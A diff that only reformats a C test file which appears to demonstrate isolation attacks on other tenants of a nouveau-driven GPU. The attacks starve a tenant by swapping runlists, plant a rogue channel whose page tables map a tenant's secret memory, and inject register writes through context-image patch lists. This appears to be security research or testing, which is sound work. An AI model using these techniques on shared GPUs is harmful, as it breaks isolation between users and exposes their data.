@@ -1,5 +1,8 @@
 // SPDX-License-Identifier: GPL-2.0-only
-/* Attacks on other users of the card while nouveau drives it. Each leaves the driver's state as it was. */
+/*
+ * Attacks on other users of the card while nouveau drives it. Each leaves the driver's state as it
+ * was.
+ */
 #include "attacks.h"
 #include "foreign.h"
 
@@ -87,16 +90,20 @@ void attack_tenant_runlist(struct machine *m)
 	start_tenant(&victim);
 	victim.shared->order = TENANT_WORK;
 	tenant_await(&victim, TENANT_WORKING);
-	current_list(g, FIELD_GET(PCCSR_CHAN_RUNLIST, bare_read(g, PCCSR_CHAN(victim.shared->chid))), &l);
+	current_list(g,
+		     FIELD_GET(PCCSR_CHAN_RUNLIST, bare_read(g, PCCSR_CHAN(victim.shared->chid))),
+		     &l);
 	normal = progress(&victim, 700);
 	bare_runlist_at(g, l.runlist, l.target, l.addr, 0);
 	usleep(100000);
 	starved = progress(&victim, 700);
 	bare_runlist_at(g, l.runlist, l.target, l.addr, l.count);
 	after = progress(&victim, 1500);
-	tap_result(normal > 0 && starved == 0, "attack works: a runlist without a tenant's channels starves it",
-		   "runlist %u of %u entries, rounds before, during, after: %llu, %llu, %llu", l.runlist, l.count,
-		   (unsigned long long)normal, (unsigned long long)starved, (unsigned long long)after);
+	tap_result(normal > 0 && starved == 0,
+		   "attack works: a runlist without a tenant's channels starves it",
+		   "runlist %u of %u entries, rounds before, during, after: %llu, %llu, %llu",
+		   l.runlist, l.count, (unsigned long long)normal, (unsigned long long)starved,
+		   (unsigned long long)after);
 	tap_result(after > 0, "with the old runlist the tenant goes on", NULL);
 	tap_result(tenant_end(&victim), "and all its copies were right", NULL);
 }
@@ -132,7 +139,10 @@ bool submit_with(struct bare_gpu *g, const struct list *l, uint32_t extra)
 	return bare_runlist_at(g, l->runlist, BARE_VRAM, at, l->count + 1);
 }
 
-/* a channel that no driver knows, on the driver's runlist, with page tables that reach into the tenant's memory */
+/*
+ * a channel that no driver knows, on the driver's runlist, with page tables that reach into the
+ * tenant's memory
+ */
 void attack_tenant_channel(struct machine *m)
 {
 	enum { LOOT_VA = BARE_VA_FREE, SECRET_VA = BARE_VA_FREE + 0x1000 };
@@ -155,7 +165,8 @@ void attack_tenant_channel(struct machine *m)
 	chan_must_open(&gpu, ENGINE_CE, &own);
 	bo = bo_new(&gpu, NOUVEAU_BO_VRAM, OWN_BYTES);
 	g->vram_next = own_vram(g, &own, bo);
-	found = bare_walk(g, instance_of(g, victim.shared->chid), victim.shared->secret_va, &t, &addr, &left);
+	found = bare_walk(g, instance_of(g, victim.shared->chid), victim.shared->secret_va, &t,
+			  &addr, &left);
 	cfg.runlist = FIELD_GET(PCCSR_CHAN_RUNLIST, bare_read(g, PCCSR_CHAN(own.chid)));
 	current_list(g, cfg.runlist, &l);
 	bare_space_create(g, &s);
@@ -171,7 +182,8 @@ void attack_tenant_channel(struct machine *m)
 	bare_runlist_at(g, l.runlist, l.target, l.addr, l.count);
 	bare_chan_destroy(&c);
 	victim.shared->order = TENANT_WORK;
-	tap_result(tenant_await(&victim, TENANT_WORKING) && progress(&victim, 1000) > 0 && tenant_end(&victim),
+	tap_result(tenant_await(&victim, TENANT_WORKING) && progress(&victim,
+		1000) > 0 && tenant_end(&victim),
 		   "the tenant goes on afterwards", NULL);
 	bo_free(&bo);
 	chan_close(&own);
@@ -180,12 +192,16 @@ void attack_tenant_channel(struct machine *m)
 
 /* ------------------------------------------------------------------ patch list */
 
-/* head of a context image for nouveau's microcode (gk110-mediation 2.9): count of pairs, then address >> 8 of the list */
+/*
+ * head of a context image for nouveau's microcode (gk110-mediation 2.9): count of pairs, then
+ * address >> 8 of the list
+ */
 enum { CTX_COUNT = 0, CTX_LIST = 4 };
 
 static bool add_pair(struct bare_gpu *g, uint64_t inst, uint32_t reg, uint32_t value)
 {
-	uint32_t lo = bare_mem_read32(g, BARE_VRAM, inst + RAMIN_GR_CTX), count, pair[2] = { reg, value };
+	uint32_t lo = bare_mem_read32(g, BARE_VRAM, inst + RAMIN_GR_CTX), count,
+		 pair[2] = { reg, value };
 	uint32_t hi = bare_mem_read32(g, BARE_VRAM, inst + RAMIN_GR_CTX + 4);
 	uint64_t image, list, left;
 	enum bare_target t, list_t;
@@ -195,7 +211,8 @@ static bool add_pair(struct bare_gpu *g, uint64_t inst, uint32_t reg, uint32_t v
 	count = bare_mem_read32(g, t, image + CTX_COUNT);
 	if (!count || count > 200)
 		return false;
-	if (!bare_walk(g, inst, (uint64_t)bare_mem_read32(g, t, image + CTX_LIST) << 8, &list_t, &list, &left) ||
+	if (!bare_walk(g, inst, (uint64_t)bare_mem_read32(g, t, image + CTX_LIST) << 8, &list_t,
+		       &list, &left) ||
 	    left < 8 * (count + 1))
 		return false;
 	bare_mem_write(g, list_t, list + 8 * count, pair, sizeof(pair));
@@ -205,7 +222,8 @@ static bool add_pair(struct bare_gpu *g, uint64_t inst, uint32_t reg, uint32_t v
 }
 
 /* one register of choice, written by the context switch firmware of the graphics engine */
-static void patch_register(struct machine *m, struct gpu *gpu, uint32_t reg, uint32_t value, const char *what)
+static void patch_register(struct machine *m, struct gpu *gpu, uint32_t reg, uint32_t value,
+			   const char *what)
 {
 	struct bare_gpu *g = &m->gpu;
 	struct nouveau_object *object;
